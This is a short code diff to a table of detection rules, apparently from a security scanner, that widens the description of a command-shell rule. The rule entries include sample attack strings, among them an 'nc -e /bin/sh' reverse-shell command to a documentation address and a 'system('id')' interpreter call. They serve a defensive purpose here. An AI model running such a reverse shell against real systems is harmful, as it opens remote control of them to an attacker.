@@ -222,7 +222,7 @@ rules! {
         "A call of an interpreter that runs commands or shows its set-up."
         "system('id');"
     CommandShell "command-shell" Command 8
-        "A shell, a listener or a download by its usual command line."
+        "A shell, a listener or a download by its usual command line, an option or a formula that runs a command."
         "nc -e /bin/sh 192.0.2.7 99"
     TemplateLookup "template-lookup" Template 9
         "A naming lookup in a log or configuration expression."
